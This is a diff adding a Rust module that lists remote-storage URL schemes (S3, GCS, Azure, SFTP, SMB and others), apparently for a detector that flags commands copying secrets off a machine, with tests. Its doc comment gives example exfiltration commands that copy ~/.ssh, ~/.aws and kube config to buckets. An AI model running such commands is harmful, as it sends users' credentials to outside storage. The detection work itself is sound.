@@ -1,0 +1,87 @@
+//! Remote places named by a URL scheme that copy tools write to: object
+//! stores (`s3://`, `gs://`, `az://`), file transfer (`sftp://`,
+//! `rsync://`, `ftp://`) and file shares. A command that names one of
+//! these beside a secret copies the secret off the machine, whatever the
+//! program (`gsutil cp -r ~/.ssh gs://b/`, `rclone copy ~/.aws s3://b`,
+//! `s5cmd cp ~/.kube/config s3://b/`).
+
+/// One scheme and what it reaches.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub struct RemoteStore {
+    /// The URL prefix, lower case, with `://`.
+    pub scheme: &'static str,
+    /// What it reaches, for the reason shown.
+    pub what: &'static str,
+}
+
+const fn s(scheme: &'static str, what: &'static str) -> RemoteStore {
+    RemoteStore { scheme, what }
+}
+
+/// The table (rclone's and the cloud CLIs' URL schemes).
+pub const REMOTE_STORES: &[RemoteStore] = &[
+    s("s3://", "an S3 bucket"),
+    s("s3a://", "an S3 bucket"),
+    s("gs://", "a Google Cloud Storage bucket"),
+    s("gcs://", "a Google Cloud Storage bucket"),
+    s("az://", "an Azure storage container"),
+    s("azure://", "an Azure storage container"),
+    s("abfs://", "an Azure Data Lake container"),
+    s("abfss://", "an Azure Data Lake container"),
+    s("wasb://", "an Azure blob container"),
+    s("wasbs://", "an Azure blob container"),
+    s("r2://", "a Cloudflare R2 bucket"),
+    s("b2://", "a Backblaze B2 bucket"),
+    s("oss://", "an Alibaba Cloud OSS bucket"),
+    s("cos://", "a Tencent Cloud COS bucket"),
+    s("obs://", "a Huawei Cloud OBS bucket"),
+    s("swift://", "an OpenStack Swift container"),
+    s("hdfs://", "an HDFS cluster"),
+    s("webhdfs://", "an HDFS cluster"),
+    s("ftp://", "an FTP server"),
+    s("ftps://", "an FTP server"),
+    s("sftp://", "an SFTP server"),
+    s("scp://", "an SSH server"),
+    s("rsync://", "an rsync server"),
+    s("dav://", "a WebDAV server"),
+    s("davs://", "a WebDAV server"),
+    s("webdav://", "a WebDAV server"),
+    s("smb://", "an SMB share"),
+];
+
+/// The remote place `word` names, if it is one of [`REMOTE_STORES`].
+pub fn remote_store(word: &str) -> Option<&'static RemoteStore> {
+    let lower = word.get(..word.find("://")? + 3)?.to_ascii_lowercase();
+    REMOTE_STORES.iter().find(|r| r.scheme == lower)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn schemes_are_lower_case_urls_named_once() {
+        for (i, r) in REMOTE_STORES.iter().enumerate() {
+            assert!(r.scheme.ends_with("://") && r.scheme == r.scheme.to_ascii_lowercase());
+            assert!(REMOTE_STORES
+                .iter()
+                .skip(i + 1)
+                .all(|o| o.scheme != r.scheme));
+        }
+    }
+
+    #[test]
+    fn remote_stores() {
+        assert!(remote_store("gs://kestrel-drop/").is_some());
+        assert!(remote_store("S3://Bucket/k").is_some());
+        for w in [
+            "https://example.org/x",
+            "./s3://x",
+            "gs:/x",
+            "file:///tmp/x",
+            "~/.ssh",
+        ] {
+            assert!(remote_store(w).is_none(), "{w}");
+        }
+    }
+}
